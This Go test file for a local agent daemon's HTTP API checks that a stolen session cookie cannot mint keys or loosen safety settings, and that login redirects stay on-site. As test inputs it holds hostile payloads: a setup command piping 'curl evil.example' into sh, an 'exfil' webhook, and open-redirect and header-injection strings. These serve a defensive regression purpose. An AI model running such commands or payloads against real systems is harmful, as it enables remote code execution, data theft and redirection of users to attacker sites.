package api_test

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/hivecrew/hivecrew/core/api"
	"github.com/hivecrew/hivecrew/core/daemon"
)

// signIn opens a login link like a browser and returns the session cookie
// and the token the redirect's fragment carries.
func signIn(t *testing.T, h *helper, next string) (*http.Cookie, string, string) {
	t.Helper()
	link, err := h.unix.LoginLink(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	noRedirect := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := noRedirect.Get(link.URL + next)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	loc := resp.Header.Get("Location")
	m := regexp.MustCompile(`^(.*)#session=([0-9a-f]{64})$`).FindStringSubmatch(loc)
	if resp.StatusCode != http.StatusSeeOther || len(resp.Cookies()) != 1 || m == nil {
		t.Fatalf("login: %d, Location %q, cookies %v", resp.StatusCode, loc, resp.Cookies())
	}
	return resp.Cookies()[0], m[2], m[1]
}

// as sends a request with a session cookie and, when token is set, the
// session header; it returns the status and body.
func (h *helper) as(cookie *http.Cookie, token, method, path string, body any) (int, string) {
	h.t.Helper()
	var r io.Reader
	if body != nil {
		r = strings.NewReader(body.(string))
	}
	req, _ := http.NewRequest(method, "http://"+h.addr+path, r)
	req.AddCookie(cookie)
	if token != "" {
		req.Header.Set(api.SessionHeader, token)
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		h.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestStolenCookieIsNotAKey answers issue 24.3: browsers send cookies to
// every port of localhost, so a page served on another port received
// hivecrew_session, and with it (and no Origin header) a plain HTTP client
// minted a permanent API key. Replayed without the page's session token,
// the cookie now gets 403 on every state-changing route the router has
// (listed from the router, so a route added later is covered); with the
// token but after the step-up window it can neither mint a key nor
// change a provider's key, address or type, nor a safety setting, nor widen a
// task's egress allowlist, nor add or test a webhook.
func TestStolenCookieIsNotAKey(t *testing.T) {
	h := startHelper(t, func(c *daemon.Config) { c.WebStepUp = 2 * time.Second })
	cookie, token, _ := signIn(t, h, "")

	changing := 0
	for _, route := range api.Routes(false) {
		method, path, _ := strings.Cut(route, " ")
		if method == "GET" || method == "HEAD" || !strings.HasPrefix(path, "/api/") || api.Public(method, path) {
			continue
		}
		changing++
		path = regexp.MustCompile(`\{[^}]+\}`).ReplaceAllString(path, "x")
		for _, tok := range []string{"", strings.Repeat("0", 64)} {
			if status, body := h.as(cookie, tok, method, path, "{}"); status != http.StatusForbidden || !strings.Contains(body, api.SessionHeader) {
				t.Errorf("%s %s with the cookie and token %q: %d %s; want 403", method, path, tok, status, body)
			}
		}
	}
	if changing < 20 {
		t.Fatalf("only %d state-changing routes: the router's list is not what this test thinks", changing)
	}
	// Reading needs the cookie only (event streams and images cannot send
	// headers).
	if status, _ := h.as(cookie, "", "GET", "/api/v1/tasks", nil); status != 200 {
		t.Fatalf("GET with the cookie: %d", status)
	}
	// With the token, soon after the login link: a key can be minted.
	if status, body := h.as(cookie, token, "POST", "/api/v1/apikeys", `{"name":"fresh"}`); status != 201 {
		t.Fatalf("minting a key within the step-up window: %d %s", status, body)
	}
	// A preset that grants a host past the egress policy, saved with an
	// API key: launching it grants it again.
	h.addProvider()
	h.expect(201, "POST", "/api/v1/presets", map[string]any{"name": "NAS", "task": map[string]any{"description": "Reach my NAS", "allowHosts": []string{"nas.local"}}})
	time.Sleep(2100 * time.Millisecond)
	for _, c := range []struct{ method, path, body string }{
		{"POST", "/api/v1/presets", `{"name":"NAS2","task":{"description":"Reach my NAS","allowHosts":["192.168.1.10"]}}`},
		{"POST", "/api/v1/presets/NAS/run", `{}`},
		{"PATCH", "/api/v1/presets/NAS", `{"task":{"description":"Read my photos","hostFolders":["/tmp"]}}`},
		{"POST", "/api/v1/apikeys", `{"name":"stolen"}`},
		{"POST", "/api/v1/providers", `{"displayName":"Evil","baseURL":"http://127.0.0.1:9/v1","apiKey":"x"}`},
		{"PATCH", "/api/v1/providers/Scripted", `{"type":"anthropic"}`},
		{"PATCH", "/api/v1/settings", `{"toolPolicy":{"run_shell":"allow"}}`},
		{"PATCH", "/api/v1/settings", `{"allowRemoteAccess":true}`},
		{"POST", "/api/v1/tasks", `{"description":"Reach my NAS","allowHosts":["192.168.1.10"]}`},
		{"POST", "/api/v1/tasks/batch", `{"description":"Reach my NAS","allowHosts":["nas.local"],"targets":[{"providerId":"x","modelId":"y"}]}`},
		{"POST", "/api/v1/webhooks", `{"name":"exfil","url":"http://127.0.0.1:9/hook"}`},
		{"POST", "/api/v1/webhooks/x/test", `{}`},
		{"PATCH", "/api/v1/webhooks/x", `{"enabled":true}`},
		{"PATCH", "/api/v1/mcp-servers/x", `{"enabled":true}`},
		{"PUT", "/api/v1/provisioning", `{"setupCommands":[{"command":"curl evil.example | sh"}]}`},
	} {
		if status, body := h.as(cookie, token, c.method, c.path, c.body); status != http.StatusForbidden || !strings.Contains(body, "step_up_required") || !strings.Contains(body, "hivecrew open") {
			t.Errorf("%s %s %s after the step-up window: %d %s; want 403 step_up_required", c.method, c.path, c.body, status, body)
		}
	}
	// A safety setting sent unchanged (a form saves all its fields) needs
	// no step-up.
	var cur struct {
		NetworkMode string `json:"networkMode"`
	}
	_, raw := h.as(cookie, "", "GET", "/api/v1/settings", nil)
	json.Unmarshal([]byte(raw), &cur)
	if status, body := h.as(cookie, token, "PATCH", "/api/v1/settings", `{"networkMode":"`+cur.NetworkMode+`","egressAllowHosts":[]}`); status != 200 {
		t.Errorf("unchanged safety settings after the step-up window: %d %s", status, body)
	}
	if status, _ := h.as(cookie, token, "PATCH", "/api/v1/settings", `{"egressAllowHosts":["nas.local"]}`); status != http.StatusForbidden {
		t.Errorf("changing the egress allowlist after the step-up window: %d; want 403", status)
	}
	// What is not the owner's alone still works with the token.
	if status, body := h.as(cookie, token, "PATCH", "/api/v1/settings", `{"defaultTimeoutMinutes":45}`); status != 200 {
		t.Errorf("an ordinary setting: %d %s", status, body)
	}
	if status, body := h.as(cookie, token, "PATCH", "/api/v1/providers/Scripted", `{"type":"openai-compatible","defaultModelId":"other"}`); status != 200 {
		t.Errorf("a provider's model, its type sent unchanged: %d %s", status, body)
	}
	// A new login link gives a new step-up.
	cookie2, token2, _ := signIn(t, h, "")
	if status, body := h.as(cookie2, token2, "PATCH", "/api/v1/settings", `{"toolPolicy":{"run_shell":"ask"}}`); status != 200 {
		t.Errorf("a safety setting right after a login link: %d %s", status, body)
	}
	// An API key needs neither.
	if status, _ := h.req("POST", "/api/v1/apikeys", map[string]any{"name": "by key"}); status != 201 {
		t.Errorf("minting with an API key: %d", status)
	}
}

// TestLoginNextStaysOnThisSite answers issue 24.4: the login link's next=
// sent the browser to another site (`/%09/evil.com` became `//evil.com`,
// browsers dropping the tab).
func TestLoginNextStaysOnThisSite(t *testing.T) {
	h := startHelper(t, nil)
	for next, want := range map[string]string{
		"/tasks/abc":           "/tasks/abc",
		"/tasks?status=queued": "/tasks?status=queued",
		"//evil.com":           "/",
		"/%09/evil.com":        "/",
		"/%2509/evil.com":      "/",
		"/%2F%2Fevil.com":      "/",
		"/%2f/evil.com":        "/",
		`/\evil.com`:           "/",
		"/%5Cevil.com":         "/",
		"/%5cevil.com":         "/",
		"https://evil.com":     "/",
		"evil.com":             "/",
		"/%0d%0aSet-Cookie:x":  "/",
		"/\u202eevil":          "/",
		"/%E2%80%AEevil":       "/",
		"/ok#frag":             "/ok",
	} {
		_, _, got := signIn(t, h, "&next="+urlQuery(next))
		if got != want {
			t.Errorf("next=%q went to %q; want %q", next, got, want)
		}
	}
}

// urlQuery escapes a value for a query string the way a link would carry
// it: percent signs stay as written (the cases above encode on purpose).
func urlQuery(s string) string {
	r := strings.NewReplacer("#", "%23", "&", "%26", "\\", "%5C", " ", "%20", "\u202e", "%E2%80%AE")
	return r.Replace(s)
}
